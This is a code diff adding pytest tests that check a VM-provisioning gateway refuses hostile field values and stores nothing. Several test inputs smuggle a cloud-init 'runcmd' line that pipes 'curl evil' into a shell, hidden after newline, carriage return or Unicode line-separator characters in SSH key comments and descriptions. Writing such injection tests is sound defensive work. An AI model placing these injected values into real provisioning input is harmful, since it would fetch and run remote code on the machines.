@@ -6,6 +6,12 @@ import asyncio
 from collections import Counter
 from typing import Any
 
+import pytest
+from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
+from sqlalchemy import func, select
+
+from services.db.models import Instance, InstanceEvent
 from tests.lifecycle.conftest import Gateway, GatewayFactory, Peers
 from tests.peers.kube_api import TERRAFORMS
 
@@ -47,6 +53,65 @@ async def test_invalid_requests_are_user_errors_and_create_nothing(gateway: Gate
     assert objects(peers) == []
     listed = await gateway.gql("{ instances { nodes { id } } }", role="admin")
     assert listed["instances"]["nodes"] == []
+
+
+def hostile_inputs(key: str) -> list[tuple[str, dict[str, Any], str]]:
+    """(why, createInstance fields, the field refused): each would reach the VM or its cloud-init."""
+    rsa_1024 = rsa.generate_private_key(65537, 1024).public_key()  # noqa: S505 (refused here)
+    weak = rsa_1024.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
+    runcmd = "runcmd: [[sh, -c, 'curl evil | sh']]"
+    return [
+        ("name with a final newline", {"name": "web-1\n"}, "name"),
+        ("key comment with \\r", {"sshPublicKey": f"{key} me\r{runcmd}"}, "sshPublicKey"),
+        ("key comment with \\x85", {"sshPublicKey": f"{key} me\x85{runcmd}"}, "sshPublicKey"),
+        ("key comment with U+2028", {"sshPublicKey": f"{key} me\u2028{runcmd}"}, "sshPublicKey"),
+        ("key comment with \\x00", {"sshPublicKey": f"{key} me\x00"}, "sshPublicKey"),
+        ("key comment with a tab", {"sshPublicKey": f"{key} me\tyou"}, "sshPublicKey"),
+        ("two keys on one line", {"sshPublicKey": f"{key} {key}"}, "sshPublicKey"),
+        ("two keys on two lines", {"sshPublicKey": f"{key}\n{key}"}, "sshPublicKey"),
+        ("RSA 1024", {"sshPublicKey": weak}, "sshPublicKey"),
+        ("ed25519 blob declared ssh-rsa", {"sshPublicKey": "ssh-rsa " + key.split()[1]}, "sshPublicKey"),
+        ("8 KiB + 1", {"sshPublicKey": f"{key} " + "c" * (8192 - len(key))}, "sshPublicKey"),
+        ("description with a newline", {"description": f"ok\n{runcmd}"}, "description"),
+        ("description with U+2028", {"description": "ok\u2028x"}, "description"),
+        ("description over 1 KiB", {"description": "é" * 513}, "description"),
+    ]
+
+
+async def test_hostile_input_is_refused_by_field_and_nothing_is_stored(
+    gateway: Gateway, peers: Peers, ssh_key: str
+) -> None:
+    for why, fields, field in hostile_inputs(" ".join(ssh_key.split()[:2])):
+        values = {"name": "web-1", **fields}
+        payload = await gateway.create(values.pop("name"), **values)
+
+        assert payload["instance"] is None, why
+        [error] = payload["userErrors"]
+        assert error["field"] == field, why
+        assert error["message"], why
+        assert "\n" not in error["message"], why
+
+    listed = await gateway.gql("{ instances(first: 100) { nodes { id } } }", role="admin")
+    assert listed["instances"]["nodes"] == []
+    assert objects(peers) == []
+    async with gateway.runtime.engine.connect() as connection:
+        for table in (Instance, InstanceEvent):
+            assert await connection.scalar(select(func.count()).select_from(table)) == 0
+
+
+@pytest.mark.parametrize("padding", ["", "  ", "\n"])
+async def test_the_key_reaches_the_terraform_object_reserialised(
+    gateway: Gateway, peers: Peers, ssh_key: str, padding: str
+) -> None:
+    peers.controller.default.stop_before = 0
+    key_type, blob, _ = ssh_key.split(" ", 2)
+
+    created = await gateway.create_ok("keyed", sshPublicKey=f"{padding}{key_type}   {blob}  me@host{padding}")
+
+    obj = peers.terraform(created["id"])
+    assert obj is not None
+    variables = {v["name"]: v["value"] for v in obj["spec"]["vars"]}
+    assert variables["ssh_public_key"] == f"{key_type} {blob} me@host"
 
 
 async def test_names_are_unique_among_live_instances_of_an_org(gateway: Gateway, peers: Peers) -> None:
